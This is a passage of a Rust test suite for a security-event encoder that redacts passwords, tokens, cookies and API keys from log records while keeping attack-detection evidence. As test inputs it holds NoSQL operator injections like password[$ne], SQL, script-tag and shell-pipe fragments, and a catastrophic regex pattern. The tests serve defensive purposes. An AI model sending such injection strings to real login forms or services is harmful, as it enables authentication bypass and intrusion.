        assert_eq!(sent["text"], expected);
        assert_eq!(sent["json"], serde_json::from_str::<Value>(expected).unwrap());
    }
    let encoder = default_encoder();
    for (given, expected) in [
        ("password[$ne]=1&x=2", "password[$ne]=1&x=2"),
        ("user[$gt]=&password[$gt]=", "user[$gt]=&password[$gt]="),
        ("password[$regex]=^S3CR3T&x=2", "password[$regex]=[REDACTED]&x=2"),
        ("password[$in][0]=S3CR3T&password[$in][1]=7", "password[$in][0]=[REDACTED]&password[$in][1]=7"),
        ("/login?password%5B%24eq%5D=S3CR3T", "/login?password%5B%24eq%5D=[REDACTED]"),
        ("{\"password\":{\"$ne\":null},\"user\":\"b", "{\"password\":{\"$ne\":null},\"user\":\"b"),
        ("body {'password': {'$ne': None}}", "body {'password': {'$ne': None}}"),
        (
            "x {\"password\": {\"$gt\": 1, \"$lt\": \"S3CR3T",
            "x {\"password\": {\"$gt\": 1, \"$lt\": \"[REDACTED]",
        ),
        (
            "x {\"password\": {\"$eq\": \"S3CR3T\"}, \"token\": \"S3CR3T\"",
            "x {\"password\": {\"$eq\": \"[REDACTED]\"}, \"token\": \"[REDACTED]\"",
        ),
        ("x {\"password\": {\"$eq\": {\"a\": \"S3CR3T\"}}", "x {\"password\": {\"$eq\": [REDACTED]}"),
    ] {
        assert_eq!(clean(&encoder, given), expected);
        assert_eq!(clean(&encoder, expected), expected);
    }
}

#[test]
fn what_the_engine_says_about_a_parameter_is_evidence() {
    let encoder = default_encoder();
    for told in [
        "Query param 'password': Value matched pattern '(?i)union\\s+select'",
        "Request body field 'password': Semantic attack: sqli (score: 0.91)",
        "Header 'authorization': Threat detected",
        "Header name 'cookie': Value matched pattern (fallback)",
        "Form field name 'api_key': Scan time budget exhausted (fallback)",
        "JSON key 'token': Pattern exceeded scan time budget: '(a+)+'",
    ] {
        assert_eq!(clean(&encoder, told), told);
    }
    for value in [
        "field 'password': S3CR3T",
        "Query param 'password': S3CR3T Value matched pattern 'x'",
        "x 'password': Value matched pattern S3CR3T",
        "param \"password\": Value matched pattern S3CR3T",
        "param 'password'=Value matched pattern S3CR3T",
        "Query param 'a': Value matched pattern 'password=S3CR3T'",
        "Query param 'password': Value matched pattern 'token=S3CR3T'",
    ] {
        assert!(!leaks(&clean(&encoder, value)), "{}", clean(&encoder, value));
    }
}

#[test]
fn a_value_of_a_header_may_begin_with_a_mark() {
    let encoder = default_encoder();
    for mark in ["/", "//", "/+/", "+", "~", "!", "*", "^", "#", "&", "@", "-", ".", "$", "_", "%", "="] {
        for given in [
            format!("X-Api-Key: {mark}S3CR3T0123456789abcdef=="),
            format!("Authorization: Basic {mark}S3CR3TABC=="),
            format!("Cookie: {mark}sid=S3CR3T"),
            format!("Cookie: {mark}a=1; {mark}sid=S3CR3T"),
            format!("Cookie: a=1; {mark}sid=S3CR3T"),
            format!("curl -H 'x-api-key: {mark}S3CR3T' https://h/"),
            format!("a=1&x%2dapi%2dkey={}S3CR3T", as_form(mark)),
            as_form(&format!("a=1&x-api-key={}S3CR3T", as_form(mark))),
            format!("x-api-key={mark}S3CR3T"),
        ] {
            let begins_another = mark == "&" && given.starts_with("x-api-key=");
            assert!(begins_another || !leaks(&clean(&encoder, &given)), "{given}");
        }
    }
    for kept in ["/?cookie=&x=KEPT", "/?cookie=#KEPT", "cookie: /* KEPT", "cookie: &", "cookie: !"] {
        assert_eq!(clean(&encoder, kept), kept);
    }
}

#[test]
fn what_is_cut_off_in_a_quoted_cookie_is_a_part_of_it() {
    let encoder = default_encoder();
    for secret in [
        "Cookie: a=\"b c S3CR3T",
        "Cookie: x=1; a=\"b, c; d S3CR3T",
        "{\"log\":\"Cookie: a=\\\"b c S3CR3T",
        "Cookie: a=\"b c S3CR3T\nhost: h",
        "Cookie: a=1; b=\"x y S3CR3T\r\nhost: h\r\n",
        "Cookie: 'a=b c S3CR3T\nhost: h",
        "Cookie: 'a=1; sid=S3CR3T\nhost: 'h'",
        "{\"log\":\"Cookie: 'a=1; sid=S3CR3T",
        "query($password: String = \"ab:S3CR3T\")",
        "query($password: String = \"ab: S3CR3T",
        "token: String = S3CR3T",
    ] {
        let sent = clean(&encoder, secret);
        assert!(!leaks(&sent), "{sent}");
        assert_eq!(clean(&encoder, &sent), sent);
    }
    for evidence in [
        "Cookie: a=\" <script>KEPT",
        "Cookie: a=\" b\nx: KEPT",
        "Cookie: 'a=b\nx: KEPT",
        "Cookie: 'a=1; b <script>KEPT",
        "cookie:'a'='KEPT",
        "cookie: ' OR a=KEPT",
        "cookie: x<img src=KEPT",
        "cookie: a | b; cat KEPT",
        "token: a user = \"KEPT\"",
        "token: a x=KEPT",
        "token: a == KEPT",
    ] {
        assert!(clean(&encoder, evidence).contains("KEPT"), "{}", clean(&encoder, evidence));
    }
}

#[test]
fn words_and_names_about_secrets_stay() {
    for kept in [
        "{\"password\":null,\"token\":false,\"secret\":\"\",\"has_password\":\"KEPT\"}",
        "{\"is_token_fresh\":\"KEPT\",\"isPassword\":\"KEPT\",\"access_key_id\":\"KEPT\",\"accessKeyId\":\"KEPT\"}",
        "{\"password_changed_at\":\"KEPT\",\"tokenExpirationDate\":\"KEPT\",\"PWD\":\"/KEPT\"}",
        "has_password=KEPT is_token=KEPT access_key_id=KEPT password_changed_at=KEPT",
        "user_has_password=true&password=null&KEPT=1",
        "{'password': None, 'x': 'KEPT'",
        "pwd=/home/KEPT PWD=/KEPT",
        "class=\"KEPT sk-fading-circle-container-2x\"",
    ] {
        assert_eq!(is_sent(kept, "KEPT"), [true; 2], "{kept}");
        assert_eq!(is_sent(kept, "[REDACTED]"), [false, true], "{kept}");
    }
    for secret in [
        "{\"password\":\"S3CR3T\"}",
        "{\"PWD\":\"S3CR3T\"}",
        "x {\"pwd\":/* mine */\"S3CR3T\"}",
        "db_pwd=/S3CR3T",
        "password='true S3CR3T'",
        "password: true S3CR3T",
        "aws_secret_access_key=S3CR3T",
        "sk-S3CR3TaAbBcCdDeEfFgG",
        "Cookie: sid=ab<S3CR3T",
        "X-Api-Key: ab<S3CR3T; x=1",
        "x=%0api_key=S3CR3T&y=1",
        "c=l1%0al2&%70assword=T0PS%0aS3CR3T&x=1",
        "--header=Cookie:a=b&c=S3CR3T",
        "<ns:input name=\"password\" type=\"a\">S3CR3T</ns:input>",
        "level=info|password:ab&cd=S3CR3T",
        "jdbc:mysql://h/db?user=b;password:ab&cd=S3CR3T",
        "GET / HTTP/1.1\r\nCookie: theme=a<b; sid=S3CR3T; x=1\r\nAccept: */*\r\n",
    ] {
        assert_eq!(is_sent(secret, "S3CR3T"), [false; 2], "{secret}");
    }
    assert_eq!(
        metadata(&mut default_encoder(), json!({ "password": "true", "pin_password": 17 }))["password"],
        "[REDACTED]"
    );
    assert_eq!(metadata(&mut default_encoder(), json!({ "password": 1 }))["password"], "[REDACTED]");
}

#[test]
fn no_field_leaks_what_another_redacts() {
    for text in
        ["{\"user\":\"b\",\"password\":\"S3CR3T\",\"bio\":\"aaaa", "password=S3CR3T'T0PS3C", "Bearer S3CR3T"]
    {
        let full = SecurityEvent::new(text, Timestamp::default())
            .ip_address(text)
            .country(text)
            .user_agent(text)
            .action_taken(text)
            .reason(text)
            .endpoint(text)
            .method(text)
            .decorator_type(text)
            .rule_type(text)
            .pattern_matched(text)
            .handler_name(text)
            .metadata("m", text)
            .metadata(String::from(text), json!([text, { text: text }]))
            .extra("e", text);
        let record = default_encoder().event(&full).unwrap();
        assert!(!leaks(super::text(&record)), "{}", super::text(&record));
        let metric = SecurityMetric::new(MetricType::BlockRate, 1.0, Timestamp::default())
            .endpoint(text)
            .tag("t", text);
        let record = default_encoder().metric(&metric.tag(text, "v")).unwrap();
        assert!(!leaks(super::text(&record)), "{}", super::text(&record));
    }
}

/// What is sent of that reason.
fn clean(encoder: &Encoder, given: &str) -> String {
    let record = encoder.clone().event(&event().reason(given)).unwrap();
    read_back(&record).reason.into_owned()
}
